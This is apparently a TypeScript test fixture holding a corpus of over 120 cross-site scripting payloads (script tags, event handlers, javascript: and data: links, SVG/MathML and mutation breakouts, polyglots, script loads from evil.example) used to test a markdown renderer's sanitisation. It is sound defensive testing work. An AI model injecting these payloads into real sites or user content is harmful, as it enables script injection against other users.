/**
 * Hostile inputs for everything that turns member text into HTML (posts, comments, profiles, mails).
 * Unit tests render each through `renderMarkdown`; a browser journey renders them in Chromium and
 * asserts that no dialog opens and that `window[XSS_GLOBAL]` stays undefined.
 */

/** One hostile input. */
export interface XssVector {
  name: string;
  input: string;
}

/** The global some payloads try to set; a browser test asserts it never appears. */
export const XSS_GLOBAL = '__treffpunktXss';

const SET = `window.${XSS_GLOBAL}=1`;

const scripts: XssVector[] = [
  { name: 'script tag', input: '<script>alert(1)</script>' },
  { name: 'script upper case', input: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'script mixed case', input: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with src', input: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script sets global', input: `<script>${SET}</script>` },
  { name: 'script null byte in name', input: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { name: 'script null byte after', input: '<script\u0000>alert(1)</script>' },
  { name: 'script with spaces', input: '< script >alert(1)</ script >' },
  { name: 'script slash attribute', input: '<script/xss src="https://evil.example/x.js"></script>' },
  { name: 'script nested split', input: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script unclosed', input: '<script>alert(1)' },
  { name: 'script in paragraph', input: 'Hallo <script>alert(1)</script> Welt' },
  { name: 'script entity encoded', input: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { name: 'script double encoded', input: '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;' },
  { name: 'script in code span', input: '`<script>alert(1)</script>`' },
  { name: 'script in fence', input: '```html\n<script>alert(1)</script>\n```' },
  { name: 'script in fence language', input: '```"><script>alert(1)</script>\nx\n```' },
  { name: 'script in blockquote', input: '> <script>alert(1)</script>' },
  { name: 'script in list', input: '- <script>alert(1)</script>\n- b' },
  { name: 'script in heading', input: '# <script>alert(1)</script>' },
  { name: 'script type module', input: '<script type="module">alert(1)</script>' },
  { name: 'script via xmp', input: '<xmp><script>alert(1)</script></xmp>' },
  { name: 'script via textarea', input: '<textarea><script>alert(1)</script></textarea>' },
  {
    name: 'script via noscript',
    input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { name: 'script in template', input: '<template><script>alert(1)</script></template>' },
];

// Every common element with the handler that fires on it without user interaction (or with one click).
const handlerPairs: [string, string][] = [
  ['<img src=x onerror=alert(1)>', 'img onerror'],
  ['<img src="x" onerror="alert(1)"/>', 'img onerror quoted'],
  ['<IMG SRC=x OnErRoR=alert(1)>', 'img onerror mixed case'],
  ['<img src=x onerror=alert`1`>', 'img onerror template call'],
  ['<img/src=x/onerror=alert(1)>', 'img slashes instead of spaces'],
  ['<img src=x onerror\u000b=alert(1)>', 'img vertical tab before ='],
  ['<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>', 'img onerror entity body'],
  [`<img src=x onerror="${SET}">`, 'img onerror sets global'],
  ['<svg onload=alert(1)>', 'svg onload'],
  ['<svg/onload=alert(1)>', 'svg slash onload'],
  ['<body onload=alert(1)>', 'body onload'],
  ['<details open ontoggle=alert(1)>', 'details ontoggle'],
  ['<input autofocus onfocus=alert(1)>', 'input autofocus onfocus'],
  ['<select autofocus onfocus=alert(1)>', 'select onfocus'],
  ['<textarea autofocus onfocus=alert(1)>', 'textarea onfocus'],
  ['<video><source onerror=alert(1)>', 'video source onerror'],
  ['<audio src=x onerror=alert(1)>', 'audio onerror'],
  ['<video src=x onerror=alert(1)>', 'video onerror'],
  ['<iframe onload=alert(1)>', 'iframe onload'],
  ['<marquee onstart=alert(1)>x</marquee>', 'marquee onstart'],
  ['<div onmouseover=alert(1)>hover</div>', 'div onmouseover'],
  ['<p onclick=alert(1)>click</p>', 'p onclick'],
  ['<a href="https://example.org" onclick=alert(1)>x</a>', 'a onclick'],
  ['<a onmouseover=alert(1)>x</a>', 'a onmouseover without href'],
  ['<button onclick=alert(1)>x</button>', 'button onclick'],
  ['<form><button formaction=javascript:alert(1)>x</button></form>', 'button formaction'],
  ['<object data=x onerror=alert(1)>', 'object onerror'],
  ['<style onload=alert(1)></style>', 'style onload'],
  ['<link rel=stylesheet href=x onload=alert(1)>', 'link onload'],
  ['<table background=x onerror=alert(1)>', 'table onerror'],
  ['<strong onclick=alert(1)>x</strong>', 'allowed tag strong with onclick'],
  ['<code onmouseover=alert(1)>x</code>', 'allowed tag code with handler'],
  ['<blockquote onmouseover=alert(1)>x</blockquote>', 'allowed tag blockquote with handler'],
  ['<img src="https://example.org/x.png" onload=alert(1)>', 'allowed img src with onload'],
  ['<x onclick=alert(1)>custom</x>', 'custom element onclick'],
  ['<div contenteditable onfocus=alert(1) autofocus>x</div>', 'contenteditable onfocus'],
  ['<body onpageshow=alert(1)>', 'body onpageshow'],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 'svg animate onbegin'],
];
const handlers: XssVector[] = handlerPairs.map(([input, name]) => ({ name, input }));

const urls: XssVector[] = [
  { name: 'md link javascript', input: '[x](javascript:alert(1))' },
  { name: 'md link javascript angle brackets', input: '[x](<javascript:alert(1)>)' },
  { name: 'md link JAVASCRIPT upper', input: '[x](JAVASCRIPT:alert(1))' },
  { name: 'md link JaVaScRiPt mixed', input: '[x](JaVaScRiPt:alert(1))' },
  { name: 'md link javascript with tab', input: '[x](java\tscript:alert(1))' },
  { name: 'md link javascript with newline', input: '[x](java\nscript:alert(1))' },
  { name: 'md link javascript with entity tab', input: '[x](java&#x09;script:alert(1))' },
  { name: 'md link hex entity j', input: '[x](&#x6A;avascript:alert(1))' },
  {
    name: 'md link decimal entities',
    input: '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))',
  },
  { name: 'md link entity colon', input: '[x](javascript&colon;alert(1))' },
  { name: 'md link leading space', input: '[x]( javascript:alert(1))' },
  { name: 'md link leading control char', input: '[x](\u0001javascript:alert(1))' },
  { name: 'md link percent encoded', input: '[x](javascript%3Aalert(1))' },
  { name: 'md link vbscript', input: '[x](vbscript:msgbox(1))' },
  { name: 'md link data html', input: '[x](data:text/html,<script>alert(1)</script>)' },
  { name: 'md link data base64', input: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'md link protocol relative', input: '[x](//evil.example)' },
  { name: 'md link backslash relative', input: '[x](/\\evil.example)' },
  { name: 'md link file scheme', input: '[x](file:///etc/passwd)' },
  { name: 'md link with title breakout', input: '[x](https://example.org "a\\" onmouseover=\\"alert(1))' },
  { name: 'md image javascript', input: '![x](javascript:alert(1))' },
  { name: 'md image data svg', input: '![x](data:image/svg+xml,<svg onload=alert(1)>)' },
  { name: 'md image data png', input: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'md image attribute breakout', input: '![x](x" onerror="alert(1))' },
  { name: 'md image title breakout', input: '![x](https://example.org/x.png "t\\" onerror=\\"alert(1))' },
  { name: 'md image alt breakout', input: '![x" onerror="alert(1)](https://example.org/x.png)' },
  { name: 'md image relative other path', input: '![x](/api/files/../../evil)' },
  { name: 'md reference link javascript', input: '[x][r]\n\n[r]: javascript:alert(1)' },
  { name: 'md reference link entity', input: '[x][r]\n\n[r]: &#x6A;avascript:alert(1)' },
  { name: 'md reference image data', input: '![x][r]\n\n[r]: data:text/html,alert(1)' },
  { name: 'autolink javascript', input: '<javascript:alert(1)>' },
  { name: 'autolink vbscript', input: '<vbscript:msgbox(1)>' },
  { name: 'autolink data', input: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'bare javascript url', input: 'javascript:alert(1)' },
  { name: 'nested brackets', input: '[[x](javascript:alert(1))](https://example.org)' },
  { name: 'link inside link text', input: '[a [b](javascript:alert(1)) c](https://example.org)' },
  { name: 'image inside link', input: '[![x](javascript:alert(1))](javascript:alert(2))' },
  { name: 'link with parens payload', input: '[x](https://example.org/?q=)(javascript:alert(1))' },
  { name: 'html a javascript', input: '<a href="javascript:alert(1)">x</a>' },
  { name: 'html a entity javascript', input: '<a href="&#x6A;avascript:alert(1)">x</a>' },
  { name: 'html a tab javascript', input: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'html a data', input: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'html img javascript src', input: '<img src="javascript:alert(1)">' },
  { name: 'html img dynsrc', input: '<img dynsrc="javascript:alert(1)">' },
  { name: 'html img srcset', input: '<img srcset="javascript:alert(1) 1x">' },
  { name: 'linkify-looking javascript', input: 'see javascript://example.com/%0aalert(1)' },
  { name: 'homoglyph scheme', input: '[x](jаvascript:alert(1))' },
  { name: 'fullwidth scheme', input: '[x](ｊａｖａｓｃｒｉｐｔ:alert(1))' },
];

const elements: XssVector[] = [
  { name: 'svg script', input: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg xlink href', input: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' },
  {
    name: 'svg foreignObject',
    input: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  },
  { name: 'svg use data', input: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>' },
  { name: 'svg set attribute', input: '<svg><set attributeName=onmouseover to=alert(1)>' },
  { name: 'mathml href', input: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>' },
  {
    name: 'mathml maction',
    input: '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  {
    name: 'mathml mglyph style breakout',
    input: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'iframe javascript', input: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', input: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'object data', input: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', input: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { name: 'form action', input: '<form action="javascript:alert(1)"><input type=submit></form>' },
  { name: 'meta refresh', input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', input: '<base href="javascript:alert(1)//">' },
  { name: 'style tag import', input: '<style>@import "https://evil.example/x.css";</style>' },
  { name: 'style expression', input: '<div style="width: expression(alert(1))">x</div>' },
  { name: 'style background url', input: '<p style="background:url(javascript:alert(1))">x</p>' },
  { name: 'link stylesheet', input: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'isindex', input: '<isindex type=image src=1 onerror=alert(1)>' },
  { name: 'applet', input: '<applet code="javascript:alert(1)"></applet>' },
  { name: 'frameset', input: '<frameset onload=alert(1)>' },
  { name: 'portal', input: '<portal src="https://evil.example"></portal>' },
];

const malformed: XssVector[] = [
  { name: 'unclosed img', input: '<img src=x onerror=alert(1)' },
  { name: 'unclosed attribute quote', input: '<img src="x onerror=alert(1)>' },
  { name: 'double open', input: '<<script>alert(1);//<</script>' },
  { name: 'broken close', input: '<img src=x onerror=alert(1)//' },
  { name: 'attribute without space', input: '<img src="x"onerror="alert(1)">' },
  { name: 'backtick attribute', input: '<img src=`x` onerror=`alert(1)`>' },
  { name: 'html comment hides tag', input: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'comment bang close', input: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'conditional comment', input: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { name: 'cdata', input: '<![CDATA[<script>alert(1)</script>]]>' },
  {
    name: 'cdata in svg',
    input: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
  },
  { name: 'processing instruction', input: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'doctype', input: '<!DOCTYPE html><html><body onload=alert(1)>' },
  { name: 'title breakout', input: '</title><script>alert(1)</script>' },
  { name: 'textarea breakout', input: '</textarea><script>alert(1)</script>' },
  { name: 'noscript breakout', input: '<noscript></noscript><img src=x onerror=alert(1)>' },
  { name: 'select breakout', input: '<select><option><img src=x onerror=alert(1)></option></select>' },
  {
    name: 'deeply nested',
    input: `${'<div>'.repeat(200)}<img src=x onerror=alert(1)>${'</div>'.repeat(200)}`,
  },
  { name: 'markdown emphasis around tag', input: '*<img src=x onerror=alert(1)>*' },
  { name: 'markdown code breakout', input: '`</code><script>alert(1)</script>`' },
];

const tags: XssVector[] = [
  { name: 'mention with img', input: '@<img src=x onerror=alert(1)>' },
  { name: 'mention with quote', input: '@anna"><script>alert(1)</script>' },
  { name: 'mention with javascript', input: '@javascript:alert(1)' },
  { name: 'mention in link text', input: '[@anna](javascript:alert(1))' },
  { name: 'topic breakout', input: '#"><script>alert(1)</script>' },
  { name: 'topic with img', input: '#topic<img src=x onerror=alert(1)>' },
  { name: 'topic url encoded', input: '#%22onmouseover%3Dalert(1)' },
  { name: 'topic with entity', input: '#&#x22;onmouseover=alert(1)' },
  { name: 'many mentions', input: Array.from({ length: 50 }, (_, i) => `@user${i}`).join(' ') },
];

const other: XssVector[] = [
  {
    name: 'rtl override',
    input: '[gpj.exe](https://example.org/\u202Egpj.exe) \u202E<script>alert(1)</script>',
  },
  { name: 'zero width in scheme', input: '[x](java\u200bscript:alert(1))' },
  { name: 'template injection', input: "{{constructor.constructor('alert(1)')()}}" },
  { name: 'template injection sets global', input: `{{constructor.constructor('${SET}')()}}` },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a literal template expression
  { name: 'template literal', input: '${alert(1)}' },
  { name: 'angular expression', input: "<div ng-app>{{$on.constructor('alert(1)')()}}</div>" },
  {
    name: 'polyglot 0xsobky',
    input:
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  },
  {
    name: 'polyglot ashar',
    input:
      '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>',
  },
  { name: 'polyglot markdown html mix', input: '[<img src=x onerror=alert(1)>](https://example.org)' },
  { name: 'unicode escapes', input: '<img src=x onerror="\\u0061lert(1)">' },
  { name: 'very long input', input: `${'a'.repeat(30_000)}<script>alert(1)</script>` },
];

/** All vectors, at least 120; names are unique. */
export const XSS_CORPUS: readonly XssVector[] = [
  ...scripts,
  ...handlers,
  ...urls,
  ...elements,
  ...malformed,
  ...tags,
  ...other,
];
